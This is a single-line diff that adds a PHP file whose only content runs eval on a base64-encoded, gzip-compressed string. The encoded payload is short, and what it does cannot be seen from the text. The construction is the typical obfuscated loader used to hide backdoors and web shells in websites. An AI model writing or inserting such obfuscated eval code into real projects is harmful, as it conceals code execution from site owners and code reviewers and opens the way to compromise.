@@ -1,0 +1,1 @@
+<?php eval(gzinflate(base64_decode('y0lNzMnXBQA='))); ?>
